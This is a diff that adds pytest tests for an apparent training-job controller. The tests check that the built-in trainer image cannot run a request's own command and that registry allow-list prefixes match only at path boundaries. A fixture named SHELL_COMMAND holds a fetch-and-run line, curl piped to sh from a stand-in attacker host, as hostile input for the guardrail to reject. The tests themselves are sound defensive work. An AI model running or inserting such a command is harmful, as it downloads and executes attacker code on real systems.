@@ -109,6 +109,68 @@ def test_custom_images_need_an_allowed_registry(settings):
     assert problems(s, trainer=trainer) == []
 
 
+SHELL_COMMAND = {"command": ["bash", "-c", "curl -s https://evil.example/x | sh"]}
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "us-docker.pkg.dev/proj/trainctl/trainer:1",  # the built-in trainer's image itself
+        "us-docker.pkg.dev/proj/trainctl/trainer:latest",  # another tag of it
+        "us-docker.pkg.dev/proj/trainctl/trainer@sha256:" + "ab" * 32,
+        "us-docker.pkg.dev/proj/trainctl/other-tool:2",  # anything else in the trainer's repository
+        "us-docker.pkg.dev/proj/trainctl/nested/tool:2",
+    ],
+)
+@pytest.mark.parametrize("allowed", [(), ("us-docker.pkg.dev/proj/",), ("us-docker.pkg.dev/proj/trainctl",)])
+def test_the_built_in_image_runs_only_the_built_in_trainer(settings, image, allowed):
+    """Guards issue 24, point 1: the trainer image (or any image of its repository) with a request's own command
+    would run anything as the trainer's service account. It is refused naming trainer.image, the guardrail and
+    what to do instead, even when the operator's allow-list covers the whole project registry."""
+    s = dataclasses.replace(settings, allowed_image_prefixes=allowed)
+    listed = ", ".join(allowed) or "none (only the built-in trainer)"
+    for trainer in ({"image": image} | SHELL_COMMAND, {"image": image}):
+        assert problems(s, trainer=trainer) == [
+            f"trainer.image: guardrail builtin_image: {image} is from the built-in trainer's repository "
+            "(us-docker.pkg.dev/proj/trainctl/), whose images run only the built-in trainer: ask for "
+            "`builtin: tabular` instead of an image; custom code needs an image from an allowed registry; "
+            f"allowed: {listed}"
+        ]
+    assert problems(s, trainer={"builtin": "tabular"}) == []
+
+
+def test_a_trainer_image_pinned_by_digest_keeps_its_whole_repository_builtin_only(settings):
+    """Guards issue 24, point 1: the deploy guide pins the trainer by digest; its repository is still the path
+    without the last component, and an allow-list entry beside it covers the other repositories only."""
+    s = dataclasses.replace(
+        settings,
+        trainer_image="us-central1-docker.pkg.dev/p/trainctl/trainer@sha256:" + "0f" * 32,
+        allowed_image_prefixes=("us-central1-docker.pkg.dev/p/",),
+    )
+    [refused] = problems(s, trainer={"image": "us-central1-docker.pkg.dev/p/trainctl/trainer:latest"})
+    assert refused.startswith("trainer.image: guardrail builtin_image:") and "`builtin: tabular`" in refused
+    assert problems(s, trainer={"image": "us-central1-docker.pkg.dev/p/trainctl-custom/trainer:1"}) == []
+    assert problems(s, trainer={"image": "us-central1-docker.pkg.dev/p/team/trainer:1"} | SHELL_COMMAND) == []
+
+
+@pytest.mark.parametrize(
+    ("prefix", "image", "admitted"),
+    [
+        ("us-docker.pkg.dev/partner/repo", "us-docker.pkg.dev/partner/repo/trainer:1", True),
+        ("us-docker.pkg.dev/partner/repo", "us-docker.pkg.dev/partner/repo-evil/miner:1", False),
+        ("us-docker.pkg.dev/partner/repo/", "us-docker.pkg.dev/partner/repo-evil/miner:1", False),
+        ("us-docker.pkg.dev/partner/repo/trainer:1", "us-docker.pkg.dev/partner/repo/trainer:2", False),
+    ],
+)
+def test_allowed_image_prefixes_match_at_a_path_boundary(settings, prefix, image, admitted):
+    """Guards issue 24, point 2: `…/partner/repo` admitted `…/partner/repo-evil/miner:1` by plain startswith."""
+    s = dataclasses.replace(settings, allowed_image_prefixes=(prefix,))
+    found = problems(s, trainer={"image": image})
+    assert found == ([] if admitted else [
+        f"trainer.image: guardrail allowed_image_prefixes: {image} is not from an allowed registry; allowed: {prefix}"
+    ])  # fmt: skip
+
+
 def test_data_and_output_buckets(settings):
     s = dataclasses.replace(settings, allowed_data_buckets=("data-bucket",))
     assert problems(s) == []
